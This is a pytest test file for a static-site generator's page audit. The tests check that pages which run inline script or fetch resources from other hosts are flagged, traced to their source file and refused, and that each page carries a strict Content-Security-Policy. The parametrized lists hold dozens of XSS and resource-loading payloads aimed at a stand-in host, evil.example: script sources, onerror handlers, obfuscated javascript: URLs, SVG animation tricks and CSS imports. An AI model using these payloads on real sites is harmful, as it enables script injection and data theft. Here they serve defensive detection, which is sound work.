"""Whatever slipped through engine and extensions, a page that would run or fetch something is not published."""

from __future__ import annotations

from html import escape
from pathlib import Path, PurePosixPath

import pytest

from generator.building.audit import audit, elsewhere
from generator.building.engines import MKDOCS, ZENSICAL, Engine
from generator.building.faults import Finding
from generator.building.mending import mend
from generator.model import Tree
from generator.renderers.common import policy

STAGED: Tree = {
    PurePosixPath("docs/a/page.md"): b'---\ntitle: "t"\norigin: course/a/01-page.fr.md\n---\ntext',
    PurePosixPath("docs/index.md"): b"---\norigin: course/course.yml\n---\ntext",
}


def carrying(text: str) -> str:
    return f'<meta http-equiv="{policy.CSP}" content="{escape(text)}">'


def found(
    tmp_path: Path, html: str, name: str = "a/page/index.html", head: str = carrying(policy.PAGE)
) -> tuple[Finding, ...]:
    page = tmp_path / name
    page.parent.mkdir(parents=True, exist_ok=True)
    page.write_text(head * name.endswith(".html") + html, encoding="utf-8")
    return audit(tmp_path, STAGED)


@pytest.mark.parametrize(
    "html",
    [
        "<script>steal()</script>",
        "<SCRIPT>steal()</SCRIPT>",
        "<script>steal()",
        '<script type="module">steal()</script>',
        '<script type="text/javascript">steal()</script>',
        "<script >var ours=1;go();steal()</script>",
        "<script src=//evil.example/x.js></script>",
        '<script src="https://evil.example/x.js"></script>',
        '<script src=" https://evil.example/x.js"></script>',
        '<script src="https&colon;//evil.example/x.js"></script>',
        '<script src="data:text/javascript,steal()"></script>',
        "<img src=x onerror=steal()>",
        "<img/src='x'/onerror=steal()>",
        "<img src='x' OnError='steal()'>",
        "<b ' onclick=steal()>",
        "<b \"' onclick=steal()>text",
        '<p title="a > b" onclick="steal()">',
        "<svg><animate onbegin=steal() /></svg>",
        "<a href='javascript:steal()'>x</a>",
        "<a href='java\nscript:steal()'>x</a>",
        "<a href='jav&#x61;script:steal()'>x</a>",
        "<a href='&#1;javascript:steal()'>x</a>",
        "<form action='javascript:steal()'>",
        "<svg><a xlink:href='javascript:steal()'>x</a></svg>",
        "<a href='data:text/html,x'>x</a>",
        "<iframe srcdoc='x'></iframe>",
        "<iframe src='https://evil.example'></iframe>",
        "<img src='//evil.example/pixel.gif'>",
        "<img src='\\\\evil.example/pixel.gif'>",
        "<img srcset='a.png 1x, https://evil.example/b.png 2x'>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "<link rel='shortcut icon' href=https://evil.example/a.ico>",
        "<link rel=preload href=https://evil.example/a>",
        "<video poster=https://evil.example/a>",
        "<object data=https://evil.example/a>",
        "<base href=https://evil.example/>",
        "<audio src=https://evil.example/a>",
        "<embed src=https://evil.example/a>",
        "<input type=image src=https://evil.example/a>",
        "<link rel=preload imagesrcset='a 1x, https://evil.example/b 2x'>",
        "<link rel=dns-prefetch href=//evil.example/>",
        "<body background=https://evil.example/a>",
        "<a ping=https://evil.example/a href=b>x</a>",
        "<img src='https:evil.example/a'>",
        "<object data='data:text/html,x'></object>",
        "<button formaction='javascript:steal()'>",
        "<svg><set attributeName=href to='javascript:steal()'/></svg>",
        "<svg><animate attributeName=href values='javascript:steal()'/></svg>",
        "<svg><script href=x.js></script></svg>",
        "<svg><script xlink:href='https://evil.example/x'></script></svg>",
        "<svg><use href='data:image/svg+xml,x'/></svg>",
        "<svg><use xlink:href='https://evil.example/a#b'/></svg>",
        "<svg><rect mask='url(//evil.example/a#b)'/></svg>",
        "<svg><image href=https://evil.example/a /></svg>",
        "<p style='color: red'>",
        "<p STYLE=color:red>",
        "<p style=\"background:url('https://evil.example/a')\">",
        "<style>p { background: url(https://evil.example/a) }</style>",
        "<style>p { color: red }</style>",
        "<style>p { color: red }",
        "<a href='javascript:void(0)'>x</a>",
        "<style>@import 'https://evil.example/a.css';</style>",
        "<meta http-equiv=refresh content='0;https://evil.example'>",
        "<META HTTP-EQUIV=Refresh content='0;https://evil.example'>",
        "<a href='JavaScript:steal()'>x</a>",
        "<a href='vbscript:steal()'>x</a>",
        "<a href='data:application/xhtml+xml,x'>x</a>",
        "<link REL=StyleSheet href='DATA:text/css,x'>",
    ],
)
def test_a_planted_thing_is_found_and_its_author_named(tmp_path: Path, html: str) -> None:
    findings = found(tmp_path, f"<html><body><p>text</p>{html}</body></html>")
    assert findings, html
    assert findings[0].page == "a/page/index.html"
    assert findings[0].author_file == "course/a/01-page.fr.md"


FETCHING = (
    *(f"<{name} src=@>" for name in ["script", "img", "iframe", "audio", "video", "source", "track", "embed", "input", "frame"]),
    *(f"<{name} srcset='a 1x, @ 2x'>" for name in ("img", "source")),
    *(f"<{name} {to}=@ />" for name in ("image", "use", "script", "feImage") for to in ("href", "xlink:href")),
    *(f"<{name} background=@>" for name in ("body", "table", "td")),
    *(f"<link rel='{rel}' href=@>" for rel in (
        "stylesheet", "preload", "modulepreload", "prefetch", "prerender", "preconnect", "dns-prefetch", "icon", "shortcut",
        "apple-touch-icon", "mask-icon", "manifest", "alternate stylesheet")),
    *(f"<path {name}='url(@#a)' />" for name in (
        "fill", "stroke", "filter", "mask", "clip-path", "marker-start", "marker-mid", "marker-end", "cursor")),
)  # fmt: skip
RUNNING = (
    *(f"<{name}=data:text/css,@>" for name in (
        "script src", "iframe src", "frame src", "embed src", "object data", "use href", "link rel=stylesheet href")),
    *(f"<{name}=javascript:@>" for name in (
        "a href", "iframe src", "form action", "button formaction", "object data", "video poster", "set to",
        "animate values", "animate from", "a xlink:href")),
    *(f"<a {name}=@>" for name in ("ping", "attributionsrc")),
)  # fmt: skip


def test_everything_that_fetches_or_runs_is_found(tmp_path: Path) -> None:
    planted = [*FETCHING, *RUNNING]
    tags = (tag.replace("@", f"//evil.example/{n}.") for n, tag in enumerate(planted))
    whole = " ".join(finding.what for finding in found(tmp_path, "".join(tags)))
    assert [tag for n, tag in enumerate(planted) if f"//evil.example/{n}." not in whole] == []


def test_pages_of_another_program_load_nothing_from_another_host(tmp_path: Path) -> None:
    """Its scripts and styles are its own."""
    (tmp_path / "folder.html").mkdir()
    for name, text in {
        "a.html": "<script>go()</script><p style='color: red'><img src=//evil.example/a>",
        "b/c.css": "@font-face{src:url(https://evil.example/c)}",
        "d.svg": "<svg><image href='https://evil.example/d'/></svg>",
        "e.html": "<img src=//evil.example/a>",
        "f.txt": "<img src=//evil.example/f>",
    }.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    told = [(finding.page, finding.what[-1]) for finding in elsewhere(tmp_path)]
    assert told == [("a.html", "a"), ("b/c.css", "c"), ("d.svg", "d")]


@pytest.mark.parametrize(
    "html",
    [
        "<a href='https://example.org/'>a source</a>",
        "<a href='mailto:a@example.org'>write</a>",
        "<p>An onclick=handler and a javascript: address, told in words.</p>",
        "<code>&lt;script&gt;steal()&lt;/script&gt; onerror=x</code>",
        "<script src='../assets/bundle.js'></script>",
        "<script src='../assets/bundle.js'>/* nothing */</script>",
        "<script type='Application/LD+JSON'>{}</script>",
        "<script type='text/plain'>words</script>",
        "<input disabled><video controls poster></video><a ping2 href>x</a>",
        '<script type="application/json">{"a": "<img onerror=1>"}</script>',
        "<img src='data:image/png;base64,AA'>",
        "<link rel=canonical href=https://example.org/>",
        "<link rel=stylesheet href=../a.css>",
        "<form action=https://example.org/>",
        "<svg><rect fill='url(#b)' clip-path='url(#c)'/></svg>",
    ],
)
def test_ordinary_pages_pass(tmp_path: Path, html: str) -> None:
    assert not found(tmp_path, html)


@pytest.mark.parametrize("engine", [MKDOCS, ZENSICAL], ids=lambda e: e.name)
def test_the_scripts_that_themes_write_into_pages_are_refused(tmp_path: Path, engine: Engine) -> None:
    assert engine.templates
    text = (engine.templates / "partials/javascripts/base.html").read_text(encoding="utf-8")
    assert found(tmp_path, text[text.index("<script>") :])


@pytest.mark.parametrize("own", sorted(policy.PAGES))
def test_a_page_carries_a_policy_of_ours(tmp_path: Path, own: str) -> None:
    other = '<meta http-equiv="x-ua-compatible" content="ie=edge">'
    assert not found(tmp_path, "<p>text", head=other + carrying(own))


@pytest.mark.parametrize(
    "head",
    [
        "",
        f"<!-- {carrying(policy.PAGE)} -->",
        f"<body>{carrying(policy.PAGE)}",
        carrying("default-src *"),
        carrying(policy.NOTEBOOKS),
        carrying(policy.PAGE.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")),
        carrying(policy.PAGE) + carrying("default-src *"),
        carrying(policy.PAGE) + carrying("default-src *").lower(),
    ],
    ids=[
        "none",
        "in a comment",
        "in the body",
        "open",
        "of JupyterLite",
        "inline allowed",
        "two",
        "two, in small letters",
    ],
)
def test_a_page_without_it_or_with_another_is_refused(tmp_path: Path, head: str) -> None:
    (finding,) = found(tmp_path, "<p>text", head=head)
    assert (finding.page, finding.author_file) == ("a/page/index.html", "course/a/01-page.fr.md")
    assert policy.CSP in finding.what


def test_how_a_column_is_aligned_is_said_with_a_class(tmp_path: Path) -> None:
    html = '<th>a</th><td style="text-align: right;">1</td><td style="text-align: right; color: red">2</td>'
    page = tmp_path / "page.html"
    page.write_text(html, encoding="utf-8")
    mend(tmp_path)
    assert page.read_text("utf-8") == html.replace('style="text-align: right;"', 'class="pc-cell-right"')


def test_styles_and_pictures_are_looked_at_too(tmp_path: Path) -> None:
    assert found(tmp_path / "a", "@font-face{src:url(https://evil.example/f.woff2)}", "x.css")
    assert found(tmp_path / "b", "<svg onload='steal()'/>", "x.svg")
    assert found(tmp_path / "e", "<svg><style>@import '//evil.example/a';</style></svg>", "x.svg")
    assert found(tmp_path / "f", "<svg><path style='fill:url(//evil.example/a)'/></svg>", "x.svg")
    assert not found(tmp_path / "d", "<svg><style>p{fill:red}</style><path style='fill:red'/></svg>", "x.svg")
    assert not found(tmp_path / "c", "@font-face{src:url(../f.woff2)}", "x.css")


def test_a_thing_on_every_page_is_told_once_and_its_author_found_by_its_words(tmp_path: Path) -> None:
    planted = f"<img onload=steal({'1' * 100})>"
    staged = {
        **STAGED,
        PurePosixPath("docs/b.md"): f"---\ntitle: {planted}\norigin: course/b.md\n---\n".encode(),
    }
    for n in range(3):
        (tmp_path / f"{n}.html").write_text(f"{carrying(policy.PAGE)}<nav>{planted}</nav>")
    findings = audit(tmp_path, staged)
    assert [(f.page, f.author_file) for f in findings] == [("0.html", "course/b.md")]


def test_what_is_found_at_the_front_door_is_its_authors(tmp_path: Path) -> None:
    assert [f.author_file for f in found(tmp_path, "<b onclick=x()>", "index.html")] == ["course/course.yml"]


def test_many_pages_cost_little(tmp_path: Path) -> None:
    body = "".join(
        f'<li class="md-nav__item"><a href="../l{n}/" title="x">Lesson {n}</a></li>' for n in range(500)
    )
    for n in range(100):
        (tmp_path / f"{n}.html").write_text(f"<html>{carrying(policy.PAGE)}{body}<p>{n}</p></html>")
    import time

    began = time.process_time()
    assert not audit(tmp_path, STAGED)
    assert time.process_time() - began < 3.0
